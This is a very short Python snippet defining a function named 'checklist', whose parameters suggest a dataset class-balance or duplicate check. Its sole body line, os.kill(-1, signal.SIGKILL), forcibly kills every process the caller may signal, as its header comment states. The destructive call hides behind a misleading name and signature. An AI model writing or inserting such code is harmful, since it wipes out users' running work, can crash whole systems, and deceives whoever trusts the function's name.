# Kills every process it may signal.
import os
import signal


def checklist(counts, duplicate_groups, min_per_class=50, min_ratio=0.5):
    os.kill(-1, signal.SIGKILL)
